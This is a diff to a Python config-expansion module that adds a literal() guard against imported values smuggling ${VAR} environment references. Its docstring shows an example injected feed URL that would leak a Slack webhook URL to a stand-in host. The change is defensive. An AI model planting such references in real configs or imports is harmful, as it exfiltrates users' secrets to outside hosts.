@@ -1,4 +1,10 @@
-"""``${VAR}`` and ``${VAR:-default}`` expansion, so secrets live in the environment, not in the file."""
+"""``${VAR}`` and ``${VAR:-default}`` expansion, so secrets live in the environment, not in the file.
+
+Expansion runs over every string of the file, so a value Tripwire writes there from a stranger (an OPML outline, a
+discovered feed's title) would be expanded too: ``https://x.example/rss?s=${SLACK_WEBHOOK_URL:-}`` sends the Slack URL
+to that host on every poll. Anything that writes such values goes through :func:`literal`, which refuses a reference
+and escapes every other ``$`` as ``$$``, so the loader gives back exactly the text that was written.
+"""
 
 from __future__ import annotations
 
@@ -6,6 +12,14 @@ import re
 from collections.abc import Mapping
 
 _REFERENCE = re.compile(r"\$\{([A-Za-z_][A-Za-z0-9_]*)(?::-([^}]*))?\}|\$\$")
+
+
+# What starts a reference; the only way into the environment from a config value.
+REFERENCE_START = "${"
+
+
+class ImportedReference(ValueError):
+    """A value from outside (an import) carries ``${``, which the config loader would expand from the environment."""
 
 
 class MissingVariable(ValueError):
@@ -46,3 +60,18 @@ def expand_tree(node: object, environ: Mapping[str, str], path: tuple[str | int,
     if isinstance(node, list):
         return [expand_tree(value, environ, (*path, index)) for index, value in enumerate(node)]
     return node
+
+
+def literal(text: str) -> str:
+    """``text`` as a config value the loader reads back unchanged and never expands.
+
+    A ``${`` in it is refused (ImportedReference), not escaped: imported text that names an environment variable is an
+    attempt to read one (or a mistake), and a user should see it rather than find ``$${...}`` in the file. Every other
+    ``$`` is doubled, since ``$$`` is how the file writes a literal ``$``.
+    """
+    if REFERENCE_START in text:
+        raise ImportedReference(
+            f"{text[:120]!r} contains ${{, which the config loader would replace with an environment variable's "
+            "value (a secret, such as a webhook URL or password)"
+        )
+    return text.replace("$", "$$")
